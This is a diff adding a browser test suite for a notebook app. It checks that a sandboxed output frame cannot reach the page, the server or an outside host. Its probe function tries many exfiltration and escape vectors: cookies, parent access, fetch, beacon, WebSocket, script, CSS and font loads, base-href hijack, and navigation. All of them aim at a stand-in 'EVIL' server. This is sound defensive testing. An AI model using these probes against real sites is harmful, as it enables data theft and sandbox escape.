@@ -1,0 +1,158 @@
+// The proof that an output reaches nothing: it tries everything it can think of, and reports what it got.
+
+import assert from 'node:assert/strict';
+import { createServer } from 'node:http';
+import { readFile } from 'node:fs/promises';
+import { test } from 'node:test';
+import { forgive, page, ran, run, server } from './harness.mjs';
+
+const isReal = Boolean(process.env.RATOON_BIN);
+
+/** Runs in the frame. `OWN` is this server, `EVIL` another one: each hears of every request that gets through. */
+async function probe(OWN, EVIL) {
+    const report = {};
+    const tell = (text) => (document.getElementById('report').textContent = text);
+    const reads = {
+        cookie: () => document.cookie,
+        parentTitle: () => parent.document.title,
+        parentLocation: () => parent.location.href,
+        topLocation: () => top.location.href,
+        topNavigation: () => ((top.location.href = `${EVIL}/top`), 'navigated'),
+        frameElement: () => String(frameElement),
+        opener: () => String(opener),
+        localStorage: () => String(localStorage.length),
+        sessionStorage: () => String(sessionStorage.length),
+        indexedDB: () => typeof indexedDB.open('x'),
+        serviceWorker: () => String(navigator.serviceWorker && navigator.serviceWorker.register(`${OWN}/assets/x.js`) && 'registered'),
+        referrer: () => document.referrer,
+        origin: () => self.origin,
+        secretInAddress: () => String([document.baseURI, location.href, ...(location.ancestorOrigins ?? [])].some((text) => /token|#|\/n\//.test(text))),
+        windowOpen: () => String(window.open(`${EVIL}/open`)),
+        beacon: () => (navigator.sendBeacon(`${OWN}/api/links`, 'x'), navigator.sendBeacon(`${EVIL}/beacon`, 'x'), 'sent, if the policy let it'),
+        dialog: () => String(confirm('?')),
+        cookieWrite: () => (document.cookie = 'x=1'),
+    };
+    for (const [name, read] of Object.entries(reads)) {
+        try {
+            report[name] = read();
+        } catch (error) {
+            report[name] = error.name;
+        }
+    }
+    const inTime = (name, make) => Promise.race([
+        new Promise((done) => make(done)).catch((error) => error.name),
+        new Promise((done) => setTimeout(done, 1500, 'nothing came')),
+    ]).then((got) => (report[name] = got));
+    const element = (tag, more, to = document.body) => (done) => {
+        const one = Object.assign(document.createElement(tag), more);
+        one.onload = () => done('loaded');
+        one.onerror = () => done('refused');
+        to.append(one);
+    };
+    const fetched = (url, init) => (done) => fetch(url, init).then(() => done('fetched'), (error) => done(error.name));
+    const socket = (make) => (done) => {
+        const one = make();
+        one.onopen = () => done('open');
+        one.onerror = () => done('refused');
+    };
+    await Promise.all([
+        inTime('fetch', fetched(`${OWN}/api/links`, { credentials: 'include' })),
+        inTime('fetchFar', fetched(`${EVIL}/fetch`, { mode: 'no-cors', keepalive: true })),
+        inTime('xhr', (done) => {
+            const one = new XMLHttpRequest();
+            one.onload = () => done('loaded');
+            one.onerror = () => done('refused');
+            one.open('GET', `${EVIL}/xhr`);
+            one.send();
+        }),
+        inTime('webSocket', socket(() => new WebSocket(`${OWN.replace('http', 'ws')}/ws/main`))),
+        inTime('eventSource', socket(() => new EventSource(`${EVIL}/events`))),
+        inTime('image', element('img', { src: `${EVIL}/image` })),
+        inTime('ownImage', element('img', { src: `${OWN}/api/notebooks/main` })),
+        inTime('script', element('script', { src: `${EVIL}/script` })),
+        inTime('style', element('link', { rel: 'stylesheet', href: `${EVIL}/style` }, document.head)),
+        inTime('frame', (done) => element('iframe', { src: `${EVIL}/frame` })((what) => done(what === 'loaded' ? 'an empty frame' : what))),
+        inTime('object', element('object', { data: `${EVIL}/object` })),
+        inTime('module', (done) => import(`${EVIL}/module`).then(() => done('imported'), (error) => done(error.name))),
+        inTime('worker', (done) => {
+            const one = new Worker(URL.createObjectURL(new Blob([`fetch('${EVIL}/worker').then(() => postMessage('fetched'), () => postMessage('refused'))`])));
+            one.onmessage = ({ data }) => done(data);
+            one.onerror = () => done('refused');
+        }),
+    ]);
+    const quiet = (tag, more, to = document.head) => to.append(Object.assign(document.createElement(tag), more));
+    quiet('style', { textContent: `@import url(${EVIL}/import); body { background: url(${EVIL}/background) } @font-face { font-family: x; src: url(${EVIL}/font) } * { font-family: x }` });
+    quiet('base', { href: `${EVIL}/` });
+    for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload']) quiet('link', { rel, href: `${EVIL}/${rel}`, as: 'script' });
+    report.baseURI = document.baseURI.startsWith(EVIL) ? 'changed' : 'kept';
+    await new Promise((done) => setTimeout(done, 300));
+    tell(JSON.stringify(report));
+    // A frame may lead itself somewhere; the page's policy says that there is nowhere to go. What was reported is gone then.
+    const form = Object.assign(document.createElement('form'), { action: `${OWN}/api/links`, method: 'post' });
+    document.body.append(form);
+    form.submit();
+    setTimeout(() => quiet('meta', { httpEquiv: 'refresh', content: `0; url=${EVIL}/refresh` }), 1500);
+    setTimeout(() => (location.href = `${EVIL}/away`), 2000);
+}
+
+const GOLDEN = {
+    cookie: 'SecurityError', parentTitle: 'SecurityError', parentLocation: 'SecurityError', topLocation: 'SecurityError', topNavigation: 'SecurityError',
+    frameElement: 'null', opener: 'null', localStorage: 'SecurityError', sessionStorage: 'SecurityError', indexedDB: 'SecurityError', serviceWorker: 'SecurityError',
+    referrer: '', origin: 'null', secretInAddress: 'false', windowOpen: 'null', beacon: 'sent, if the policy let it', dialog: 'false', cookieWrite: 'SecurityError',
+    fetch: 'TypeError', fetchFar: 'TypeError', xhr: 'refused', webSocket: 'refused', eventSource: 'refused', image: 'refused', ownImage: 'refused', script: 'refused',
+    style: 'refused', frame: 'an empty frame', object: 'refused', module: 'TypeError', worker: 'refused', baseURI: 'kept',
+};
+
+test('an output reaches neither this page, nor this server, nor any other', async (t) => {
+    const heard = [];
+    const evil = createServer((request, response) => (heard.push(request.url), response.end()));
+    await new Promise((done) => evil.listen(0, '127.0.0.1', done));
+    t.after(() => evil.close());
+    const asked = [];
+    page.on('request', (request) => request.frame() !== page.mainFrame() && asked.push(request));
+    const own = new URL(page.url()).origin;
+    const script = `(${probe})(${JSON.stringify(own)}, ${JSON.stringify(`http://127.0.0.1:${evil.address().port}`)})`;
+    const html = `<div id="report"></div><script>${script}</script>`;
+    await run(`from IPython.display import HTML\nHTML("${html.replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll('\n', '\\n')}")`);
+    await ran(1);
+    const report = page.frameLocator('iframe.frame').locator('#report:not(:empty)');
+    await report.waitFor();
+    assert.deepEqual(JSON.parse(await report.textContent()), GOLDEN);
+    for (let tries = 0; tries < 200 && !page.faults.some((fault) => /frame-src/.test(fault)); tries += 1) await new Promise((done) => setTimeout(done, 50));
+    assert.ok(page.faults.some((fault) => /frame-src/.test(fault)), 'it tried to lead itself away');
+    assert.deepEqual(heard, [], 'nothing came to the other server');
+    const answered = await Promise.all(asked.map(async (request) => ((await request.response().catch(() => null)) ? new URL(request.url()).pathname : null)));
+    assert.deepEqual(answered.filter(Boolean), ['/frame/v1'], 'and only the frame itself to ours');
+    assert.equal(await page.locator('.cell').count(), 2, 'the notebook stands');
+    // What the browser says about each attempt is the proof, not a fault.
+    forgive(page, /Content Security Policy|sandbox|request to|ERR_|Ignored call|Blocked|Refused|Unsafe attempt|Failed to|violates|security|preload/i);
+    if (isReal) assert.doesNotMatch(server.said(), /links/);
+});
+
+test('heights that pour in do not keep the page from living', async () => {
+    const flood = `let n = 0; const place = document.getElementById('content'); setInterval(() => { place.style.height = (100 + (n++ % 2 ? 1e7 : n)) + 'px' }, 1)`;
+    await run(`from IPython.display import HTML\nHTML("<script>${flood}</script><p>flood</p>")`);
+    await ran(1);
+    await page.waitForFunction(() => document.querySelector('iframe.frame').clientHeight > 10);
+    const { gap, tallest } = await page.evaluate(() => new Promise((done) => {
+        let [last, gap, tallest] = [performance.now(), 0, 0];
+        const end = last + 2000;
+        const beat = setInterval(() => {
+            const now = performance.now();
+            gap = Math.max(gap, now - last);
+            last = now;
+            tallest = Math.max(tallest, document.querySelector('iframe.frame').clientHeight);
+            if (now > end) (clearInterval(beat), done({ gap, tallest }));
+        }, 5);
+    }));
+    assert.ok(gap < 400, `${gap} ms`);
+    assert.ok(tallest <= 4000, `${tallest} px`);
+});
+
+test('the frame of outputs is a stranger even when it is opened by itself', { skip: !isReal }, async () => {
+    const answer = await page.request.get(new URL('/frame/v1', page.url()).href);
+    const policy = answer.headers()['content-security-policy'];
+    assert.match(policy, /sandbox allow-scripts(;|$)/);
+    assert.match(policy, /connect-src 'none'/);
+    assert.ok((await readFile(new URL('../../web/frame.html', import.meta.url), 'utf8')).length > 0);
+});
